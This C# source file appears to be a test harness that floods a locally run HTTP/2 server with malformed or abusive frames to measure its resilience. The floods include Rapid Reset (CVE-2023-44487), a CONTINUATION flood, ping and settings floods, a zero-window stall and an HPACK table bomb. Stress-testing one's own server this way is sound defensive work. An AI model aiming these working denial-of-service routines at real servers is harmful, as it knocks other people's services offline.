using System.Buffers.Binary;
using System.Diagnostics;
using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text;
using LossService.Tests.Api.Connections;
using static LossService.Tests.Api.Connections.Frame;

namespace LossService.Benchmarks.Abuse;

/// <summary>Writes frames of HTTP/2 (RFC 9113) that a decent client would not: one connection after the other, until it is
/// told to stop.</summary>
internal sealed class Http2Flood(int port, Http2Flood.Kind kind)
{
    private const int FramesPerSend = 64;
    private const int StallMicroseconds = 1000, StayMicroseconds = 20_000;

    // Method, scheme and path of the static table, and the path and host as literals that are not indexed (RFC 7541).
    private static readonly byte[] Get =
        [0x82, 0x86, 0x04, (byte)"/v1/info".Length, .. "/v1/info"u8, 0x01, 1, (byte)'x'];

    private readonly byte[] _received = new byte[1 << 16];
    private int _stream;

    /// <summary>What it does.</summary>
    internal enum Kind
    {
        /// <summary>Requests that are taken back at once (CVE-2023-44487).</summary>
        RapidReset,

        /// <summary>Headers that never end (CVE-2024-27983 and others).</summary>
        Continuation,

        /// <summary>Pings, each of which has to be answered.</summary>
        Ping,

        /// <summary>Settings, each of which has to be acknowledged.</summary>
        Settings,

        /// <summary>A hundred requests whose answers are never taken.</summary>
        ZeroWindow,

        /// <summary>A long header in the table, pointed at again and again.</summary>
        TableBomb,

        /// <summary>Frames of data without any.</summary>
        EmptyData,
    }

    /// <summary>How many frames it sent.</summary>
    public long Frames { get; private set; }

    /// <summary>How many connections the server ended.</summary>
    public int Ended { get; private set; }

    /// <summary>The code that the server last said goodbye with; null where it said none.</summary>
    public int? Goodbye { get; private set; }

    /// <summary>Runs until it is cancelled.</summary>
    public void Run(CancellationToken stop)
    {
        while (!stop.IsCancellationRequested)
        {
            using var socket = new Socket(SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
            try
            {
                socket.Connect(IPAddress.Loopback, port);
                socket.Blocking = false;
                Flood(socket, stop);
            }
            catch (SocketException)
            {
                // Ended by the server: on to the next connection.
            }

            if (!stop.IsCancellationRequested)
            {
                Ended++;
            }
        }
    }

    private void Flood(Socket socket, CancellationToken stop)
    {
        _stream = -1;
        bool stays = Send(socket, Beginning(), stop);
        byte[] frames = [.. Enumerable.Range(0, FramesPerSend).SelectMany(_ => Next())];
        while (stays && Send(socket, frames, stop))
        {
            Frames += FramesPerSend;
            Renew(frames);
            while (kind == Kind.ZeroWindow && stays && !stop.IsCancellationRequested)
            {
                stays = Listen(socket, StayMicroseconds); // all streams are taken; now it only stays
            }
        }
    }

    private byte[] Beginning()
    {
        byte[] window = kind == Kind.ZeroWindow ? [0, 4, 0, 0, 0, 0] : []; // SETTINGS_INITIAL_WINDOW_SIZE = 0
        return
        [
            .. Frame.Preface, .. Frame.Of(Settings, 0, 0, window),
            .. kind switch
            {
                Kind.Continuation => Frame.Of(Headers, 0, _stream = 1, Get),
                Kind.EmptyData => Frame.Of(Headers, EndHeaders, _stream = 1, [0x83, .. Get[1..]]),
                // A literal that enters the table: name and value; from then on one byte stands for 3,000.
                Kind.TableBomb => Frame.Of(
                    Headers, EndStream | EndHeaders, _stream = 1,
                    [.. Get, 0x40, 1, (byte)'a', 0x7F, .. Varint(3000 - 127), .. new byte[3000].Select(_ => (byte)'x')]),
                _ => [],
            },
        ];
    }

    // The same frames for the streams that come next: garbage would stop those who measure in this process.
    private void Renew(Span<byte> frames)
    {
        while (frames.Length > 0)
        {
            if (frames[3] is Headers or Reset)
            {
                _stream += frames[3] == Headers ? 2 : 0;
                BinaryPrimitives.WriteInt32BigEndian(frames[5..], _stream);
            }

            frames = frames[(9 + (BinaryPrimitives.ReadInt32BigEndian(frames) >>> 8))..];
        }
    }

    // Listens between sends. False when the connection is over, or takes nothing for a second.
    private bool Send(Socket socket, ReadOnlySpan<byte> frames, CancellationToken stop)
    {
        long taken = Stopwatch.GetTimestamp();
        while (frames.Length > 0)
        {
            int sent = socket.Send(frames, SocketFlags.None, out SocketError error);
            frames = frames[sent..];
            taken = sent > 0 ? Stopwatch.GetTimestamp() : taken;
            if (error is not (SocketError.Success or SocketError.WouldBlock) || stop.IsCancellationRequested
                || Stopwatch.GetElapsedTime(taken).TotalSeconds > 1
                || !Listen(socket, sent == 0 ? StallMicroseconds : 0))
            {
                return false;
            }
        }

        return true;
    }

    private bool Listen(Socket socket, int microseconds)
    {
        if (!socket.Poll(microseconds, SelectMode.SelectRead))
        {
            return true;
        }

        int count = socket.Receive(_received, SocketFlags.None, out SocketError error);
        Note(_received.AsSpan(0, count));
        return count > 0 || error == SocketError.WouldBlock;
    }

    private byte[] Next() => kind switch
    {
        Kind.RapidReset => [.. Frame.Of(Headers, EndStream | EndHeaders, _stream += 2, Get), .. Frame.Of(Reset, 0, _stream, [0, 0, 0, 8])],
        Kind.Continuation => Frame.Of(Continuation, 0, 1, [0x00, 1, (byte)'a', 1, (byte)'b']),
        Kind.Ping => Frame.Of(Ping, 0, 0, new byte[8]),
        Kind.Settings => Frame.Of(Settings, 0, 0, [0, 4, 0, 1, 0, 0]),
        Kind.TableBomb => Frame.Of(Headers, EndStream | EndHeaders, _stream += 2, [.. Get, .. Enumerable.Repeat((byte)0xBE, 8)]),
        Kind.EmptyData => Frame.Of(Data, 0, 1, []),
        _ => Frame.Of(Headers, EndStream | EndHeaders, _stream += 2, Get),
    };

    // A goodbye is the last thing said, and small: it is taken where it ends what was received.
    private void Note(ReadOnlySpan<byte> received)
    {
        const int Length = 17;
        if (received.Length >= Length && received[^Length..] is [0, 0, 8, GoAway, ..] frame)
        {
            Goodbye = BinaryPrimitives.ReadInt32BigEndian(frame[13..]);
        }
    }

    private static IEnumerable<byte> Varint(int value)
    {
        for (; value >= 128; value >>= 7)
        {
            yield return (byte)(value | 128);
        }

        yield return (byte)value;
    }

    /// <summary>What became of it, in a few words.</summary>
    public override string ToString() => string.Create(
        CultureInfo.InvariantCulture, $"{Frames:N0} frames, {Ended:N0} connections ended, goodbye {(Goodbye is { } code ? $"0x{code:x}" : "none")}");
}
